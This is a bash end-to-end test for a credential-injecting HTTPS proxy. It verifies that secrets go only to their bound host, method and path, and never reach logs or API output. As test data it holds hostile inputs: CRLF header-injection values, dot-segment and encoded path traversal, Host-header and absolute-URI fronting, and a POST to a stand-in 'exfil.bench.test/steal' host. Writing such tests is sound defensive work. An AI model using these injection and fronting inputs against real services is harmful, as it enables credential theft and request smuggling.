#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Secret injection: secrets from a file, the environment and stdin; bearer,
# basic-auth and header types; the client's own credential replaced; bound to
# host, method and path (wrong ones 403, never sent); TRACE/TRACK refused;
# no fronting through Host, absolute URIs or another port; a secret for host A
# never goes to host B; plain http:// only with --allow-plaintext; a denied
# request closes the intercepted connection so nothing pipelined behind it
# goes out; the value never in logs, listings, API answers or errors; state
# dir modes; audit records name the secret.
source "$(dirname "$(readlink -f "$0")")/../lib.sh"
bench_init
bench_up || { echo "bench setup failed"; echo "0 passed, 1 failed"; exit 1; }
check "daemon starts (-v: debug output must not leak either)" start_proxy --https-port 3129 --upstream-ca "$CA" -v
[ -n "$PROXY_PID" ] || bench_finish
T=$(new_client vm1)
PCA=$DIR/proxy-ca.crt
cli ca >"$PCA" 2>>"$DIR/cli.err"
OUT=$DIR/outputs.txt # everything the CLI and the proxy said to anyone but the upstream
: >"$OUT"

# the secret values (distinct, greppable)
export SEC1=sek-bearer-9f3a7c1d2e48b6 SEC2=sek-hdr-77d1a0b4c3e2f1 SEC3='user9:pw-basic-5b2c8e1f0a' \
	SEC4=sek-wild-0c8d2f6a1b3e57 SEC5=sek-plain-6e1f9b2d7c4a03 SEC6=sek-gone-2b7e4a9c1d0f58
export T PCA
printf '%s\n' "$SEC1" >"$DIR/bearer.txt"
chmod 600 "$DIR/bearer.txt"

icurl() { in_vm curl -q -sS -m 15 --cacert "$PCA" -x "http://proxy:$T@$PROXY_ADDR" "$@"; }
icode() { icurl -o /dev/null -w '%{http_code}' "$@" 2>/dev/null; return 0; }
# ibody ARGS: the upstream echo (which reflects the injected secret back)
ibody() { icurl "$@" 2>&1; }
# pbody ARGS: a response from the proxy itself (kept, to look for secrets in later)
pbody() { icurl "$@" 2>&1 | tee -a "$OUT"; }
export -f icurl icode ibody pbody
export OUT

# ---- creating secrets ----
check "secret create --from-file" expect_re 'llama' \
	bash -c "cli secret create llama --host api.bench.test --from-file '$DIR/bearer.txt' 2>&1 | tee -a '$OUT'"
check "secret create --from-env, type header" expect_re 'apikey' bash -c \
	"SPX_E2E_SECRET='$SEC2' $P secret create apikey --host api.bench.test --from-env SPX_E2E_SECRET \
		--type header --header X-Api-Key --url '$S' 2>&1 | tee -a '$OUT'"
check "secret create --value-stdin, type basic-auth" expect_re 'basic1' bash -c \
	"printf '%s\n' '$SEC3' | cli secret create basic1 --host other.bench.test --value-stdin --type basic-auth 2>&1 | tee -a '$OUT'"
check "secret create --json answer carries no value" bash -c \
	"printf '%s' '$SEC4' | cli secret create wild1 --host a.wild.bench.test --value-stdin --json 2>&1 | tee -a '$OUT' | grep -q wild1"
printf '%s' "$SEC5" | cli secret create plainsec --host plain.bench.test --value-stdin >>"$OUT" 2>&1
printf '%s' "$SEC6" | cli secret create gone --host api.bench.test --value-stdin >>"$OUT" 2>&1
check "secret list shows the secrets" expect_re 'llama.*api\.bench\.test' bash -c "cli secret list | tee -a '$OUT'"
check "secret list shows the header type and name" expect_re 'apikey.*header.*X-Api-Key' bash -c "cli secret list | tee -a '$OUT'"
check "a secret with a bad type is refused" bash -c \
	"! printf 'v-badtype-1\n' | cli secret create bad1 --host api.bench.test --value-stdin --type nope >>'$OUT' 2>&1"
check "type header without --header is refused" bash -c \
	"! printf 'v-badhdr-2\n' | cli secret create bad2 --host api.bench.test --value-stdin --type header >>'$OUT' 2>&1"
check "a header name with CR LF is refused" bash -c \
	"! printf 'v-badhdr-3\n' | cli secret create bad3 --host api.bench.test --value-stdin --type header --header \$'X-A\r\nX-Evil' >>'$OUT' 2>&1"
check "a secret value with a line break inside is refused (no header injection)" bash -c \
	"! printf 'v-crlf-4\r\nX-Evil: 1\n' | cli secret create bad4 --host api.bench.test --value-stdin >>'$OUT' 2>&1"
check "a header secret may not set framing or routing headers (Host, Content-Length, Transfer-Encoding)" bash -c "
	for h in Host Content-Length Transfer-Encoding; do
		printf 'v-framing-5\n' | cli secret create bad5 --host api.bench.test --value-stdin --type header --header \$h >>'$OUT' 2>&1 && { echo \"accepted \$h\"; exit 1; }
	done; exit 0"
check "a 16384-byte secret is accepted" bash -c \
	"head -c 16384 /dev/zero | tr '\0' k | cli secret create big1 --host api.bench.test --value-stdin >/dev/null"
check "a 16385-byte secret is refused" bash -c \
	"! head -c 16385 /dev/zero | tr '\0' k | cli secret create big2 --host api.bench.test --value-stdin >/dev/null 2>&1"
check "a secret for a missing file is refused" bash -c "! cli secret create nf --host api.bench.test --from-file '$DIR/nope' >/dev/null 2>&1"
check "rules may not name a secret that does not exist" bash -c \
	"! cli allow vm1 --host api.bench.test --secret nosuch --path /nosuch >>'$OUT' 2>&1"

# ---- bearer, bound to POST /v1/chat/completions ----
R1=$(cli allow vm1 --host api.bench.test --secret llama --method POST --path /v1/chat/completions)
chat() { ibody -X POST https://api.bench.test/v1/chat/completions "$@"; }
export -f chat
check "bearer injected, the client's credential replaced (file value without its newline)" jpipe \
	"H['authorization'] == 'Bearer ' + E['SEC1']" "[k for k, v in L].count('authorization') == 1" "'fake' not in json.dumps(j)" \
	-- chat -H 'Authorization: Bearer fake' -d '{}'
check "two client Authorization headers (any case) become the one secret" jpipe \
	"[v for k, v in L if k == 'authorization'] == ['Bearer ' + E['SEC1']]" \
	-- chat -H 'authorization: Basic fake1' -H 'AUTHORIZATION: Bearer fake2' -d '{}'
check "injected without any client credential; body intact" jpipe \
	"H['authorization'] == 'Bearer ' + E['SEC1']" "j['body_len'] == 11" "j['method'] == 'POST'" \
	-- chat -d '{"a":"bcd"}'
check "query string does not matter for the path" jpipe "H['authorization'] == 'Bearer ' + E['SEC1']" \
	-- ibody -X POST -d '{}' 'https://api.bench.test/v1/chat/completions?stream=1'
check "wrong method: 403" expect 403 icode https://api.bench.test/v1/chat/completions
check "wrong path: 403" expect 403 icode -X POST -d '{}' https://api.bench.test/v1/admin
check "a longer path: 403" expect 403 icode -X POST -d '{}' https://api.bench.test/v1/chat/completions/x
check "dot segments out of the allowed path: 403" expect 403 icode --path-as-is -X POST -d '{}' \
	https://api.bench.test/v1/chat/completions/../../admin
check "encoded dot segments out of the allowed path: 403" expect 403 icode --path-as-is -X POST -d '{}' \
	'https://api.bench.test/v1/chat/completions/%2e%2e/%2e%2e/admin'
check "none of the refused requests reached the upstream" bash -c \
	"! grep -E ' REQ .* (GET /v1/chat|POST /v1/admin|POST /v1/chat/completions/)' '$DIR/upstream.log'"
check "403 body names the reason, not the secret" expect_re 'denied' pbody -X POST -d '{}' https://api.bench.test/v1/admin

# TRACE / TRACK: refused even on a rule that allows every method
cli allow vm1 --host api.bench.test --secret llama --path /any >/dev/null
check "a secret rule without methods allows GET (sanity)" jpipe "H['authorization'] == 'Bearer ' + E['SEC1']" \
	-- ibody https://api.bench.test/any
check "TRACE on a secret rule: 403" expect 403 icode -X TRACE https://api.bench.test/any
check "TRACK on a secret rule: 403" expect 403 icode -X TRACK https://api.bench.test/any
check "TRACE on the POST rule: 403" expect 403 icode -X TRACE https://api.bench.test/v1/chat/completions
check "no TRACE or TRACK reached the upstream" bash -c "! grep -E ' REQ .* (TRACE|TRACK) ' '$DIR/upstream.log'"

# ---- no fronting inside the tunnel ----
front_code() { icode -X POST -d '{}' https://api.bench.test/v1/chat/completions "$@"; }
export -f front_code
check "Host header naming another host: refused" expect "421|403|400" front_code -H 'Host: other.bench.test'
check "Host header naming another port: refused" expect "421|403|400" front_code -H 'Host: api.bench.test:8443'
check "Host header naming the host's IP: refused" expect "421|403|400" front_code -H 'Host: 198.18.0.10'
front_raw() { # REQUEST-LINE HOST: sent inside an intercepted api.bench.test tunnel
	vmpy - "$T" "$PCA" "$1" "$2" <<'EOF'
import sys, spxclient
tok, ca, line, host = sys.argv[1:5]
c = spxclient.Conn()
st, h, b = c.connect("api.bench.test:443", tok); assert st == 200, st
c.wrap_tls("api.bench.test", ca)
c.send(("%s\r\nHost: %s\r\nContent-Length: 2\r\n\r\n{}" % (line, host)).encode())
try:
    st, h, b = c.read_response()
except (spxclient.Closed, ConnectionError):
    print("closed"); sys.exit(0)
print(st, b[:300])
assert st in (400, 403, 421), st
assert b"sek-" not in b
EOF
}
check "absolute URI naming another host inside the tunnel: refused" \
	front_raw "POST https://other.bench.test/v1/chat/completions HTTP/1.1" other.bench.test
check "absolute http:// URI inside the tunnel: refused" \
	front_raw "POST http://api.bench.test/v1/chat/completions HTTP/1.1" api.bench.test
check "absolute URI for another host with our Host header: refused" \
	front_raw "POST https://other.bench.test/v1/chat/completions HTTP/1.1" api.bench.test
check "no fronted request reached any upstream" bash -c \
	"! grep -E ' REQ (198\.18\.0\.11|.*host=other\.bench\.test|.*host=198\.18|.*host=api\.bench\.test:8443)' '$DIR/upstream.log'"

# ---- header and basic-auth types ----
cli allow vm1 --host api.bench.test --secret apikey --method GET --path /hdr >/dev/null
check "header secret injected as X-Api-Key, the client's one replaced" jpipe \
	"[v for k, v in L if k == 'x-api-key'] == [E['SEC2']]" "H.get('authorization') == 'Bearer mine'" \
	-- ibody -H 'x-api-key: client-own' -H 'Authorization: Bearer mine' https://api.bench.test/hdr
cli allow vm1 --host other.bench.test --secret basic1 --method GET --path /basic >/dev/null
check "basic-auth secret injected as Basic base64(user:password)" jpipe \
	"H['authorization'] == 'Basic ' + __import__('base64').b64encode(E['SEC3'].encode()).decode()" \
	-- ibody -H 'Authorization: Basic Y2xpZW50OnNlY3JldA==' https://other.bench.test/basic

# ---- --value-stdin on a terminal: typed with echo off, never shown ----
export SEC8=sek-typed-4d9b2e7a1c6f05
# tty_secret MODE: run `secret create typed --value-stdin` on a pseudo-terminal
# and type SEC8 (MODE line) or press Ctrl-C at the prompt (MODE intr); prints
# what the terminal showed
tty_secret() {
	python3 - "$1" <<'PYEOF' | tee -a "$OUT"
import os, pty, select, signal, sys, termios, time
mode = sys.argv[1]
value = os.environ["SEC8"].encode()
pid, fd = pty.fork()
if pid == 0:
    os.execv(os.environ["P"], [os.environ["P"], "secret", "create", "typed",
             "--host", "other.bench.test", "--value-stdin", "--url", os.environ["S"]])
out = b""
def read_until(pred, secs=10):
    global out
    while not pred(out):
        r, _, _ = select.select([fd], [], [], secs)
        if not r:
            return False
        try:
            d = os.read(fd, 4096)
        except OSError:
            return pred(out)
        if not d:
            return pred(out)
        out += d
    return True
assert read_until(lambda o: b"not shown" in o), out
if mode == "line":
    os.write(fd, value + b"\n")
else:
    os.write(fd, b"\x03")
read_until(lambda o: False, 5)
# bounded: a command that never ends is killed and fails the check
for _ in range(100):
    done, st = os.waitpid(pid, os.WNOHANG)
    if done:
        break
    time.sleep(0.1)
else:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    sys.exit("the command did not end")
print(out.decode(errors="replace"))
echo_on = bool(termios.tcgetattr(fd)[3] & termios.ECHO)
print("status", st, "echo", echo_on)
assert value not in out, "the typed value was shown"
assert echo_on, "the terminal was left without echo"
if mode == "line":
    assert os.WIFEXITED(st) and os.WEXITSTATUS(st) == 0, st
    assert b"secret typed created" in out, out
else:
    assert os.WIFSIGNALED(st) and os.WTERMSIG(st) == signal.SIGINT, st
PYEOF
	return "${PIPESTATUS[0]}"
}
export -f tty_secret
check "secret create --value-stdin on a terminal: Ctrl-C at the prompt ends it, echo back on" tty_secret intr
check "... nothing was created by it" bash -c "! cli secret list | grep -q '^typed '"
check "secret create --value-stdin on a terminal: the typed value is not echoed" tty_secret line
cli allow vm1 --host other.bench.test --secret typed --method GET --path /typed >/dev/null
check "... and the typed value (without its Enter) is what is injected" jpipe \
	"H['authorization'] == 'Bearer ' + E['SEC8']" -- ibody https://other.bench.test/typed

# ---- a secret never goes to another host ----
cli allow vm1 --host exfil.bench.test --secret llama --method POST --path '/*' >/dev/null
exfil() {
	local out
	out=$(pbody -X POST -d '{}' -w '\n%{http_code}' https://exfil.bench.test/steal)
	echo "$out"
	! printf '%s' "$out" | grep -qF "$SEC1"
}
export -f exfil
check "a secret bound to api.bench.test is never sent to exfil.bench.test" exfil
check "... the request is refused (403), not sent without it" expect 403 icode -X POST -d '{}' https://exfil.bench.test/steal
check "... and nothing reached exfil.bench.test" bash -c "! grep -q ' /steal ' '$DIR/upstream.log'"
cli allow vm1 --host '*.wild.bench.test' --secret wild1 --path /w >/dev/null
check "wildcard rule: the secret goes to the secret's own host" jpipe "H['authorization'] == 'Bearer ' + E['SEC4']" \
	-- ibody https://a.wild.bench.test/w
check "wildcard rule: another host under the wildcard never gets it" bash -c \
	"out=\$(pbody -w '\n%{http_code}' https://b.wild.bench.test/w); echo \"\$out\"; ! printf '%s' \"\$out\" | grep -qF '$SEC4'"
check "wildcard rule: that request did not reach b.wild.bench.test" bash -c "! grep -q 'host=b.wild.bench.test' '$DIR/upstream.log'"

# ---- plain http:// ----
cli allow vm1 --host plain.bench.test --port 80 --secret plainsec --path /pt >/dev/null
check "secret on plain http:// without --allow-plaintext: 403" expect 403 \
	bash -c "in_vm curl -q -s -m 5 -o /dev/null -w '%{http_code}' -x http://proxy:$T@$PROXY_ADDR http://plain.bench.test/pt"
check "... and it never reached the upstream" bash -c "! grep -q ' /pt ' '$DIR/upstream.log'"
check "... and the 403 names the reason" expect_re 'TLS|plaintext|plain' bash -c \
	"in_vm curl -q -s -m 5 -x http://proxy:$T@$PROXY_ADDR http://plain.bench.test/pt | tee -a '$OUT'"
cli allow vm1 --host plain.bench.test --port 80 --secret plainsec --path /pt2 --allow-plaintext >/dev/null
check "with --allow-plaintext the secret is injected over http://" jpipe \
	"H['authorization'] == 'Bearer ' + E['SEC5']" "j['scheme'] == 'http'" \
	-- in_vm curl -q -s -m 5 -x "http://proxy:$T@$PROXY_ADDR" -H 'Authorization: x' http://plain.bench.test/pt2

# ---- a denied request closes the intercepted connection ----
pipeline() { # MARKERS: pipelined requests, one write, one TLS connection
	vmpy - "$T" "$PCA" "$@" <<'EOF'
import sys, spxclient
tok, ca = sys.argv[1:3]
reqs = sys.argv[3:]
c = spxclient.Conn()
st, h, b = c.connect("api.bench.test:443", tok); assert st == 200, st
c.wrap_tls("api.bench.test", ca)
out = b""
for r in reqs:
    m, p = r.split(" ")
    out += ("%s %s HTTP/1.1\r\nHost: api.bench.test\r\nContent-Length: 2\r\n\r\n{}" % (m, p)).encode()
c.send(out)
got = []
try:
    for r in reqs:
        st, h, b = c.read_response()
        got.append(st)
        if st == 403:
            break
    closed = c.wait_closed(3)
except (spxclient.Closed, ConnectionError):
    closed = True
print(got, "closed" if closed else "open")
assert 403 in got and closed, (got, closed)
assert got[:got.index(403)] == [200] * got.index(403), got
EOF
}
check "allowed, denied, allowed pipelined: 200, 403, then closed" pipeline \
	"POST /v1/chat/completions?m=pipe1" "GET /v1/chat/completions?m=pipe2" "POST /v1/chat/completions?m=pipe3"
check "... only the first reached the upstream" bash -c \
	"grep -q 'pipe1 ' '$DIR/upstream.log' && ! grep -qE 'pipe[23] ' '$DIR/upstream.log'"
check "denied first, allowed behind it: 403, then closed" pipeline \
	"POST /v1/admin?m=pipe4" "POST /v1/chat/completions?m=pipe5"
check "... nothing of it reached the upstream" bash -c "! grep -qE 'pipe[45] ' '$DIR/upstream.log'"

# ---- bodies with a secret ----
head -c 2097152 /dev/urandom >"$DIR/home/up2"
UP2_SHA=$(sha256sum "$DIR/home/up2" | cut -d" " -f1)
export UP2_SHA
check "2 MiB chunked upload on the secret rule: body intact, secret injected" jpipe \
	"H['authorization'] == 'Bearer ' + E['SEC1']" "j['body_sha256'] == E['UP2_SHA']" \
	-- ibody -X POST -H 'Transfer-Encoding: chunked' --data-binary "@$DIR/home/up2" https://api.bench.test/v1/chat/completions
check "2 MiB upload with Expect: 100-continue on the secret rule: intact, injected" jpipe \
	"H['authorization'] == 'Bearer ' + E['SEC1']" "j['body_sha256'] == E['UP2_SHA']" \
	-- ibody -X POST -H 'Expect: 100-continue' --data-binary "@$DIR/home/up2" https://api.bench.test/v1/chat/completions

# ---- a secret created again under the same name ----
export SEC7=sek-rotated-3f8a1c6e9d2b70
rotate() {
	if ! printf '%s' "$SEC7" | cli secret create llama --host api.bench.test --value-stdin >>"$OUT" 2>&1; then
		echo "re-creating an existing secret is refused"
		# and the old value still works
		jpipe "H['authorization'] == 'Bearer ' + E['SEC1']" -- chat -d '{}'
		return
	fi
	echo "re-created: the next request must carry the new value"
	jpipe "H['authorization'] == 'Bearer ' + E['SEC7']" -- chat -d '{}'
}
check "creating a secret again: refused, or the very next request uses the new value" rotate

# ---- a deleted secret ----
cli allow vm1 --host api.bench.test --secret gone --method GET --path /gone >/dev/null
check "the gone secret works before deletion (sanity)" jpipe "H['authorization'] == 'Bearer ' + E['SEC6']" \
	-- ibody https://api.bench.test/gone
gone_check() {
	if ! cli secret delete gone >>"$OUT" 2>&1; then
		echo "delete of a secret in use refused"
		return 0
	fi
	local c
	c=$(icode https://api.bench.test/gone)
	echo "after delete: $c"
	[ "$c" = 403 ]
}
check "deleting a secret in use is refused, or its rule stops working (403)" gone_check

# ---- the value never appears anywhere but on the wire to its host ----
sleep 0.3
cli secret list >>"$OUT" 2>&1
cli secret list --json >>"$OUT" 2>&1
cli rule list vm1 >>"$OUT" 2>&1
cli rule list vm1 --json >>"$OUT" 2>&1
cli logs >>"$OUT" 2>&1
for p in /v1/proxy/secrets /v1/proxy/secrets/llama /v1/proxy/secrets/apikey /v1/proxy/secrets/basic1 \
	/v1/proxy/clients/vm1/rules /v1/proxy/clients /metrics /healthz '/v1/proxy/logs'; do
	api GET "$p" >>"$OUT" 2>&1
done
check "the listings were captured (sanity)" bash -c "grep -q llama '$OUT' && grep -q '$R1' '$OUT' && grep -q apikey '$OUT'"
check "rule list names the secret" expect_re "$R1.*llama|llama.*$R1" bash -c "cli rule list vm1 --json | tr -d '\n '"
no_secret() { # FILE...: none of the secret values (nor base64 of the basic one) in them
	local s f
	for f in "$@"; do
		for s in "$SEC1" "$SEC2" "$SEC3" "$SEC4" "$SEC5" "$SEC6" "$SEC7" "$SEC8" "$(printf '%s' "$SEC3" | base64)" \
			"$(head -c 64 /dev/zero | tr '\0' k)"; do
			if grep -qF -- "$s" "$f"; then echo "found ${s:0:12}... in $f"; return 1; fi
		done
	done
	return 0
}
check "no secret value in the audit log" no_secret "$AUDIT"
check "no secret value in the proxy's stdout/stderr (with -v)" no_secret "$DIR/proxy.log"
check "no secret value in CLI output, listings, API answers, errors, 403 bodies" no_secret "$OUT"
check "no secret value in the CLI's stderr" no_secret "$DIR/cli.err"
check "state dir: nothing group or world accessible" bash -c "! find '$DIR/state' -perm /077 | grep ."
check "state dir: secret files exist, 0600" expect 600 stat -c %a "$DIR/state/secrets/llama"
check "state dir: the directory is 0700" expect 700 stat -c %a "$DIR/state"

# ---- audit ----
check "audit: the injected request names the secret, mode intercept, rule, status, bytes" py_check "$AUDIT" "$R1" <<'EOF'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
r = [r for r in rows if r["event"] == "request" and r.get("path") == "/v1/chat/completions"
     and r["decision"] == "allow" and r["bytes_in"] == 11]
assert r, "no record"
r = r[0]
print(r)
assert r["secret"] == "llama" and r["mode"] == "intercept" and r["rule"] == sys.argv[2], r
assert r["status"] == 200 and r["method"] == "POST" and r["host"] == "api.bench.test", r
assert r["bytes_out"] > 200 and isinstance(r["duration_ms"], int), r
EOF
check "audit: the TRACE and exfil refusals are deny records" py_check "$AUDIT" <<'EOF'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
t = [r for r in rows if r["event"] == "request" and r.get("method") == "TRACE" and r["path"] == "/any"]
x = [r for r in rows if r["event"] == "request" and r.get("host") == "exfil.bench.test" and r.get("path") == "/steal"]
print(t[:1], x[:1])
assert t and all(r["decision"] == "deny" and r["status"] == 403 for r in t), t
assert x and all(r["decision"] == "deny" and r["status"] == 403 for r in x), x
EOF
bench_finish
